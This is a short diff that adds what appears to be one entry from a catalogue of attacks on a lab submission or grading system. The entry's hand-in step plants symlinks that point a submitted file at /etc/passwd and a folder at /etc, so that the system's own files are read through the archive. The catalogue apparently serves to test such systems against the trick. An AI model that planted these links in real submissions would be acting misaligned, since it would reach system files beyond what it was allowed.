@@ -1,0 +1,13 @@
+# /// attack
+# title = "Hand in a link to a file of the system"
+# lab = "01-sgd"
+# class = "archive tricks"
+# catalogue = ["A13", "X38"]
+# fails = []
+# flags = ["files"]
+# ///
+
+# %% role="hand-in"
+
+(folder / "data.txt").symlink_to("/etc/passwd")
+(folder / "more").symlink_to("/etc")
